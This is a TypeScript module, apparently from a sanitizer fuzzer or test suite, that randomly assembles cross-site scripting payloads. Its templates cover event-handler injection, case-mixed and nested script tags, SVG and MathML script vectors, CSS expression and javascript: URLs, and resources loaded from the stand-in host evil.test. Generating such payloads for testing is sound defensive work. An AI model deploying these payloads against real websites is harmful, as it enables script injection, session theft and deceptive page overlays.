import { pick, type Random } from '../../random.ts'
import { breakout, mutation } from './breakouts.ts'
import { makeCode, makePageUrl, makeScriptUrl } from './code.ts'
import { embed } from './embeds.ts'
import type { Shape } from './shape.ts'
import { ADDRESSES, HANDLERS, INNOCENT, SEPARATORS, TAGS, TRIGGERS } from './words.ts'

const quoted = (random: Random, value: string) =>
  pick(random, [
    `"${value.replaceAll('"', '&quot;')}"`,
    `'${value}'`,
    value,
    `\`${value}\``,
    `"${value}`,
  ])

const handler: Shape = (random, id) => {
  const gap = () => pick(random, SEPARATORS)
  const code = quoted(random, makeCode(random, id))
  const attribute = `${pick(random, HANDLERS)}=${code}`
  const close = pick(random, ['>', ' >', '/>', '', '//', `>${pick(random, INNOCENT)}`])
  return `<${pick(random, TAGS)}${gap()}${pick(random, TRIGGERS)}${gap()}${attribute}${close}`
}

const address: Shape = (random, id) => {
  const tag = pick(random, TAGS)
  const url = quoted(random, makePageUrl(random, id))
  const more = pick(random, [
    '',
    ' target=_self',
    ' target=_top',
    ' type=text/html',
    ' rel=stylesheet',
  ])
  return `<${tag} ${pick(random, ADDRESSES)}=${url}${more}>${pick(random, INNOCENT)}</${tag}>`
}

const link: Shape = (random, id) => {
  const url = quoted(random, makePageUrl(random, id))
  return pick(random, [
    `<a href=${url}>${pick(random, INNOCENT)}</a>`,
    `<svg><a xlink:href=${url}><text y=9>x</text></a></svg>`,
    `<svg><a><animate attributeName=href values=${url} /><text y=9>x</text></a></svg>`,
    `<math><mtext href=${url}>x</mtext></math>`,
    `<form action=${url}><input type=submit autofocus></form>`,
    `<button form=f formaction=${url}>x</button><form id=f></form>`,
    `<map name=m><area href=${url}></map><img usemap=#m>`,
    `<meta http-equiv=refresh content="0;url=${makePageUrl(random, id)}">`,
    `<iframe src=${url}></iframe>`,
    `<object data=${url}></object>`,
    `<embed src=${url}>`,
    `[x](${makePageUrl(random, id)})`,
    makePageUrl(random, id),
  ])
}

const script: Shape = (random, id) => {
  const [code, url] = [makeCode(random, id), makeScriptUrl(random, id)]
  return pick(random, [
    `<script>${code}</script>`,
    `<script>${code}`,
    `<ScRiPt >${code}</sCrIpT >`,
    `<script/x=">"\n>${code}</script\n>`,
    `<script type=module>${code}</script>`,
    `<script src="${url}"></script>`,
    `<script src='${url}' async defer></script>`,
    `<script><!--\n${code}\n//--></script>`,
    `<scr<script>ipt>${code}</scr</script>ipt>`,
    `<svg><script>${code}</script></svg>`,
    `<svg><script href="${url}"/></svg>`,
    `<svg><script xlink:href='${url}'></script>`,
    `<svg><script>${[...code].map((letter) => `&#${letter.codePointAt(0)};`).join('')}</script>`,
    `<math><script>${code}</script></math>`,
    `<script id=__NEXT_DATA__>self.__next_f.push([1,"x"]);${code}</script>`,
    `<script>self.__next_f.push([1,""])</script><script>${code}</script>`,
    `<template shadowrootmode=open><script>${code}</script></template>`,
    `<iframe srcdoc="<script>${code.replaceAll('"', '&quot;')}</script>"></iframe>`,
    `<object type=text/html data="data:text/html,<script>top.postMessage(${id},'*')</script>"></object>`,
    `<link rel=preload as=script href="${url}" onload="${code.replaceAll('"', '&quot;')}">`,
    `<link rel=modulepreload href="${url}"><base href="//evil.test/">`,
  ])
}

const style: Shape = (random, id) => {
  const code = makeCode(random, id).replaceAll('"', '&quot;')
  return pick(random, [
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${code}">x</p>`,
    `<p style="width:expression(${code})">x</p>`,
    `<p style="background:url(javascript:${code})">x</p>`,
    `<p style="background:url(//evil.test/${id})">x</p>`,
    `<style>@import '//evil.test/${id}.css';</style>`,
    `<style>*{background:url(//evil.test/${id})}</style>`,
    `<link rel=stylesheet href="//evil.test/${id}.css">`,
    `<p style="-moz-binding:url(//evil.test/${id}.xml#x);behavior:url(x.htc)">x</p>`,
    `<style></style\t><img src=x onerror="${code}">`,
    `<p style="position:fixed;inset:0;z-index:9999"><a href=//evil.test/${id}>x</a></p>`,
    `<div style="x:\\65xpression(${code})">`,
  ])
}

/** Each kind as often as the others, handlers and parsers' quarrels twice. */
export const shapes: readonly [Shape, ...Shape[]] = [
  ...([
    handler,
    handler,
    mutation,
    mutation,
    address,
    link,
    script,
    style,
    breakout,
    embed,
  ] as const),
]
